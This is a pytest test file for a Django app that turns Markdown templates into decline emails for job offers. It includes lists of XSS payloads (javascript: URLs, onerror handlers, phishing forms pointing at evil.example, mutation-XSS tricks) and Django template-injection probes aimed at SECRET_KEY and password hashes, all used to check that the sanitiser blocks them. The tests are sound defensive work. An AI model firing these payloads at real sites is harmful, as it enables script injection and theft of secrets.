@@ -1,0 +1,413 @@
+"""Tests of the composer: the subject, plain text and sanitised HTML it makes,
+and that nothing a template or an offer holds can smuggle markup, scripts or
+secrets into an email."""
+
+import dataclasses
+import datetime as dt
+import html
+from html.parser import HTMLParser
+from types import SimpleNamespace
+from urllib.parse import urlsplit
+
+import pytest
+from django.conf import settings
+from django.contrib.auth import get_user_model
+from hypothesis import given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from declines.composer import ALLOWED_TAGS, ComposedEmail, compose
+from declines.models import DoorOpen, Offer, Profile, Reason, Tone
+from declines.placeholders import validate
+from tests.factories import DraftFactory, EmailTemplateFactory, OfferFactory
+
+TODAY = dt.date(2026, 11, 26)
+
+DECLINE_BODY = """{{ greeting }}
+
+Thank you for offering me the **{{ role }}** role at {{ company }}, and for the care everyone took
+during the process.
+
+After a lot of thought I have decided to decline. {{ reason_sentence }}
+
+{{ thanks_sentence }} {{ door_open_sentence }}
+
+Warm regards,
+{{ signature }}"""
+
+
+def template(body: str, subject: str = "Your offer for the {{ role }} role") -> SimpleNamespace:
+    return SimpleNamespace(subject=subject, body=body)
+
+
+class _Elements(HTMLParser):
+    """Every element and attribute in a piece of HTML, to check it against the allowlist."""
+
+    def __init__(self, markup: str):
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, dict(attrs)))
+
+
+def assert_only_safe_html(markup: str):
+    """Every element and attribute is on the allowlist, and every link is http, https or mailto."""
+    allowed_attributes = {"a": {"href", "rel"}, "ol": {"start"}}
+    for tag, attrs in _Elements(markup).elements:
+        assert tag in ALLOWED_TAGS, markup
+        assert set(attrs) <= allowed_attributes.get(tag, set()), markup
+        if "href" in attrs:
+            assert urlsplit(attrs["href"]).scheme in {"http", "https", "mailto"}, markup
+
+
+def assert_no_trace_of_markup(markup: str):
+    """Not even as text: for markup the sanitiser must remove rather than show."""
+    lowered = markup.lower()
+    for marker in (
+        "<script",
+        "<img",
+        "<svg",
+        "<iframe",
+        "<form",
+        "<input",
+        "<meta",
+        "<style",
+        "<math",
+        "style=",
+        "onerror",
+        "onload",
+        "ontoggle",
+        "onclick",
+        "javascript:",
+        "data:",
+        "evil.example",
+    ):
+        assert marker not in lowered, markup
+
+
+def one_line(value: str) -> str:
+    return " ".join(line.strip() for line in value.splitlines() if line.strip())
+
+
+@pytest.fixture
+def offer(owner):
+    return OfferFactory(
+        owner=owner,
+        company="Northwind Analytics",
+        role="Senior Data Engineer",
+        contact_name="Priya Lee",
+        received_on=dt.date(2026, 11, 12),
+        respond_by=dt.date(2026, 11, 30),
+        reason=Reason.ANOTHER_OFFER,
+        tone=Tone.WARM,
+        door_open=[DoorOpen.FUTURE_ROLES, DoorOpen.LINKEDIN],
+        people_to_thank="Sam Ortiz\nJordan Blake",
+    )
+
+
+def test_it_composes_a_realistic_decline(owner, offer):
+    owner.profile.signature = "Alex Morgan\nData engineer · [alex.dev](https://alex.dev)"
+    owner.profile.save()
+    source = EmailTemplateFactory(owner=owner, subject="Your offer for the {{ role }} role", body=DECLINE_BODY)
+
+    email = compose(source, offer=offer, user=owner, today=TODAY)
+
+    assert email.subject == "Your offer for the Senior Data Engineer role"
+    assert email.text == (
+        "Dear Priya,\n"
+        "\n"
+        "Thank you for offering me the Senior Data Engineer role at Northwind Analytics, "
+        "and for the care everyone took\n"
+        "during the process.\n"
+        "\n"
+        "After a lot of thought I have decided to decline. I have accepted another offer that lines up closely with "
+        "where I want to take my career next.\n"
+        "\n"
+        "I am grateful to Sam Ortiz and Jordan Blake for their time during the interviews. I would be glad to be "
+        "considered for future roles at Northwind Analytics, and I would like to stay in touch on LinkedIn.\n"
+        "\n"
+        "Warm regards,\n"
+        "Alex Morgan\n"
+        "Data engineer · alex.dev (https://alex.dev)"
+    )
+    assert email.html == (
+        "<p>Dear Priya,</p>\n"
+        "<p>Thank you for offering me the <strong>Senior Data Engineer</strong> role at Northwind Analytics, "
+        "and for the care everyone took<br>\nduring the process.</p>\n"
+        "<p>After a lot of thought I have decided to decline. I have accepted another offer that lines up closely "
+        "with where I want to take my career next.</p>\n"
+        "<p>I am grateful to Sam Ortiz and Jordan Blake for their time during the interviews. I would be glad to be "
+        "considered for future roles at Northwind Analytics, and I would like to stay in touch on LinkedIn.</p>\n"
+        "<p>Warm regards,<br>\nAlex Morgan<br>\nData engineer · "
+        '<a href="https://alex.dev" rel="noopener noreferrer nofollow">alex.dev</a></p>'
+    )
+
+
+def test_the_result_is_an_immutable_record(owner, offer):
+    email = compose(template("Hi"), offer=offer, user=owner)
+    assert isinstance(email, ComposedEmail)
+    assert [f.name for f in dataclasses.fields(email)] == ["subject", "text", "html"]
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        email.subject = "changed"
+
+
+def test_it_composes_a_draft(owner, offer):
+    draft = DraftFactory(offer=offer, subject="About {{ company }}", body="{{ greeting }}\n\nThank you.")
+    email = compose(draft, offer=offer, user=owner)
+    assert email.subject == "About Northwind Analytics"
+    assert email.text == "Dear Priya,\n\nThank you."
+
+
+def test_without_an_offer_it_previews_with_samples_and_my_name(owner):
+    email = compose(template("{{ greeting }}\n\n{{ company }}\n\n{{ signature }}"), user=owner, today=TODAY)
+    assert email.text == "Dear Priya,\n\nNorthwind Analytics\n\nAlex Morgan"
+
+
+def test_the_subject_is_one_clean_line(owner, offer):
+    offer.company = "A*B <Labs> {{ role }}"
+    source = template("Hi", subject="  Your offer\nfrom   {{ company }}\t\\{ref\\}  ")
+    assert compose(source, offer=offer, user=owner).subject == "Your offer from A*B <Labs> {{ role }} {ref}"
+
+
+@pytest.mark.parametrize(
+    ("tone", "contact", "greeting"),
+    [
+        (Tone.WARM, "Priya Lee", "Dear Priya,"),
+        (Tone.FORMAL, "Priya Lee", "Dear Priya Lee,"),
+        (Tone.BRIEF, "Priya Lee", "Hi Priya,"),
+        (Tone.WARM, "", "Dear Hiring Team,"),
+        (Tone.FORMAL, "", "Dear Hiring Team,"),
+        (Tone.BRIEF, "", "Hello,"),
+    ],
+)
+def test_the_greeting_falls_back_sensibly(owner, tone, contact, greeting):
+    offer = OfferFactory(owner=owner, tone=tone, contact_name=contact)
+    email = compose(template("{{ greeting }}\n\nThank you."), offer=offer, user=owner)
+    assert email.text.splitlines()[0] == greeting
+    assert email.html.startswith(f"<p>{greeting}</p>")
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["A*B_C Corp", "AT&T <Labs>", "[Acme](x)", "1. Ltd", "# Hash", "<script>alert(1)</script>", "&copy; `x` \\o/"],
+)
+def test_values_come_out_exactly_as_typed(owner, offer, value):
+    offer.company = value
+    email = compose(template("{{ company }}\n\nThanks, {{ company }}."), offer=offer, user=owner)
+    assert email.text == f"{value}\n\nThanks, {value}."
+    escaped = html.escape(value, quote=False)
+    assert email.html == f"<p>{escaped}</p>\n<p>Thanks, {escaped}.</p>"
+
+
+def test_links_get_a_safe_rel_and_read_well_as_text(owner, offer):
+    body = (
+        "See [our site](https://example.com/a?b=1&c=2), <https://example.com> and "
+        "[write to me](mailto:alex@example.com?subject=Hi) or <alex@example.com>."
+    )
+    email = compose(template(body), offer=offer, user=owner)
+    assert email.text == (
+        "See our site (https://example.com/a?b=1&c=2), https://example.com and "
+        "write to me (alex@example.com) or alex@example.com."
+    )
+    links = [attrs for tag, attrs in _Elements(email.html).elements if tag == "a"]
+    assert [link["href"] for link in links] == [
+        "https://example.com/a?b=1&c=2",
+        "https://example.com",
+        "mailto:alex@example.com?subject=Hi",
+        "mailto:alex@example.com",
+    ]
+    assert {link["rel"] for link in links} == {"noopener noreferrer nofollow"}
+
+
+def test_the_plain_text_reads_as_an_email(owner, offer):
+    body = (
+        "Hello **there**, _friend_ &amp; AT&T.\n\n\n\n"
+        "What I liked:\n\n"
+        "- the *team*\n"
+        "- the product\n"
+        "    - especially the API\n\n"
+        "3. first\n"
+        "4. second\n\n"
+        "> You said this\n> over two lines.\n\n"
+        "Best,  \n"
+        "Alex   "
+    )
+    email = compose(template(body), offer=offer, user=owner)
+    assert email.text == (
+        "Hello there, friend & AT&T.\n"
+        "\n"
+        "What I liked:\n"
+        "\n"
+        "- the team\n"
+        "- the product\n"
+        "  - especially the API\n"
+        "\n"
+        "3. first\n"
+        "4. second\n"
+        "\n"
+        "> You said this\n"
+        "> over two lines.\n"
+        "\n"
+        "Best,\n"
+        "Alex"
+    )
+    assert "**" not in email.text
+    assert "\n\n\n" not in email.text
+    assert all(line == line.rstrip() for line in email.text.splitlines())
+    assert '<ol start="3">' in email.html
+    assert "<blockquote>" in email.html
+
+
+def test_markdown_that_would_make_forbidden_tags_stays_as_typed(owner, offer):
+    body = "#1 priority\n\n    indented line\n\n---\n\n`code` and ![logo](https://example.com/logo.png)"
+    email = compose(template(body), offer=offer, user=owner)
+    assert email.text == ("#1 priority\n\nindented line\n\n---\n\n`code` and ![logo](https://example.com/logo.png)")
+    assert_only_safe_html(email.html)
+
+
+def test_one_body_cannot_define_links_for_the_next(owner, offer):
+    compose(template("[site]: https://evil.example\n\nHello"), offer=offer, user=owner)
+    email = compose(template("Visit [our site][site]."), offer=offer, user=owner)
+    assert email.text == "Visit [our site][site]."
+    assert "<a" not in email.html
+
+
+INJECTIONS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;avascript&#58;alert(1))",
+    "[x]( javascript:alert(1) )",
+    "[x](java\nscript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](//evil.example/path)",
+    '<a href="java&#x09;script:alert(1)">x</a>',
+    '<a href="  JAVASCRIPT:alert(1)">x</a>',
+    "<svg onload=alert(1)>",
+    '<iframe src="https://evil.example"></iframe>',
+    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<p style="position:fixed;top:0">covering text</p>',
+    '<details open ontoggle="alert(1)">x</details>',
+    '<a href="https://ok.example" onclick="alert(1)" title="t" style="color:red">ok</a>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<style>body{display:none}</style>",
+    '<math><mtext><img src="x" onerror="alert(1)"></mtext></math>',
+]
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_markup_in_a_template_body_never_reaches_the_html(owner, offer, payload):
+    email = compose(template(f"Hello,\n\n{payload}\n\n- {payload}\n\nThanks,\n{payload}"), offer=offer, user=owner)
+    assert_only_safe_html(email.html)
+    assert_no_trace_of_markup(email.html)
+    assert email.text.startswith("Hello,")
+
+
+def test_a_markdown_attribute_list_has_no_effect(owner, offer):
+    body = 'Hello {: onclick="x" }\n\n[link](https://ok.example){: onclick="x" }'
+    email = compose(template(body), offer=offer, user=owner)
+    assert_only_safe_html(email.html)
+    assert all("onclick" not in attrs for _, attrs in _Elements(email.html).elements)
+    assert email.text == 'Hello {: onclick="x" }\n\nlink (https://ok.example){: onclick="x" }'
+
+
+@pytest.mark.parametrize("field", ["company", "contact_name", "reason_detail", "people_to_thank"])
+@pytest.mark.parametrize("payload", INJECTIONS)
+def test_markup_in_offer_fields_stays_text(owner, field, payload):
+    offer = OfferFactory(owner=owner, **{field: payload}, tone=Tone.FORMAL)
+    body = "{{ greeting }}\n\n{{ company }} — {{ contact_name }}\n\n{{ reason_sentence }}\n\n{{ thanks_sentence }}"
+    email = compose(template(body, subject="{{ company }}"), offer=offer, user=owner)
+    assert_only_safe_html(email.html)
+    # What was typed is shown, never run: the only elements are the template's paragraphs.
+    assert [tag for tag, _ in _Elements(email.html).elements] == ["p", "p", "p", "p"]
+    shown = one_line(payload)
+    if field in ("company", "contact_name"):
+        assert shown in email.text
+        assert html.escape(shown, quote=False) in email.html
+    if field == "company":
+        assert email.subject == " ".join(shown.split())
+
+
+SECRET_WALKS = [
+    "{{ settings.SECRET_KEY }}",
+    "{{ offer.owner.password }}",
+    "{{ user.password }}",
+    "{{ user.groups.all }}",
+    "{{ messages.storages.0.signer.key }}",
+    "{{ request.META }}",
+    "{{ company.__class__.__init__.__globals__ }}",
+    "{% debug %}",
+    "{% load log %}{% get_admin_log 10 as log %}",
+    '{% include "base.html" %}',
+    "{{ company|safe }}",
+    "{{ SECRET_KEY }}",
+    "{{ secret_key }}",
+]
+
+
+@pytest.mark.parametrize("walk", SECRET_WALKS)
+def test_no_template_can_reach_secrets(owner, offer, walk):
+    assert validate(walk) != []
+    source = template(f"{{{{ greeting }}}}\n\n{walk}", subject=walk)
+    email = compose(source, offer=offer, user=owner)
+    for part in (email.subject, email.text, email.html):
+        assert settings.SECRET_KEY not in part
+        assert owner.password not in part
+        assert "pbkdf2" not in part and "md5$" not in part
+    # Nothing was looked up: the walk is shown exactly as it was written.
+    assert walk in email.subject
+
+
+# Text as a user might type it: letters, digits and, above all, the punctuation
+# that means something in Markdown or HTML. Single-line and stripped, because
+# a company or contact name is a one-line field that forms strip.
+_MARKUP = list("*_[]()<>&#!`\\{}|~-+.=:;'\"/%@^$")
+_name_piece = st.one_of(
+    st.sampled_from(_MARKUP),
+    st.text(st.characters(categories=("L", "N", "P", "S")), min_size=1, max_size=4),
+    st.just(" "),
+    st.sampled_from(["&amp;", "&#106;", "&copy;", "<b>", "</p>", "<script>", "{{ role }}", "1. ", "# ", "- ", "> "]),
+    st.sampled_from(["**", "__", "[x](y)", "<https://e.com>", "a@b.c", "===", "---", "  ", "\\*", "&lt;"]),
+)
+typed_names = st.lists(_name_piece, min_size=1, max_size=12).map("".join).map(str.strip).filter(bool)
+
+
+def unsaved_user() -> object:
+    user = get_user_model()(username="alex")
+    # The profile is cached on the unsaved user, so no database is needed.
+    Profile(user=user, full_name="Alex Morgan")
+    return user
+
+
+@hypothesis_settings(max_examples=300, deadline=None)
+@given(company=typed_names, contact=typed_names)
+def test_any_typed_name_comes_out_verbatim(company, contact):
+    offer = Offer(company=company, role="Engineer", contact_name=contact, tone=Tone.FORMAL, door_open=[])
+    body = (
+        "Thank you, {{ company }}, for the offer.\n\n"
+        "{{ company }}\n\n"
+        "- {{ company }}\n"
+        "- {{ contact_name }}\n\n"
+        "Hello\n{{ contact_name }}\n\n"
+        "> {{ company }}"
+    )
+    email = compose(template(body, subject="Re: {{ company }}"), offer=offer, user=unsaved_user())
+
+    assert email.text == (
+        f"Thank you, {company}, for the offer.\n\n{company}\n\n- {company}\n- {contact}\n\n"
+        f"Hello\n{contact}\n\n> {company}"
+    )
+    c, n = html.escape(company, quote=False), html.escape(contact, quote=False)
+    assert email.html == (
+        f"<p>Thank you, {c}, for the offer.</p>\n<p>{c}</p>\n<ul>\n<li>{c}</li>\n<li>{n}</li>\n</ul>\n"
+        f"<p>Hello<br>\n{n}</p>\n<blockquote>\n<p>{c}</p>\n</blockquote>"
+    )
+    assert email.subject == " ".join(f"Re: {company}".split())
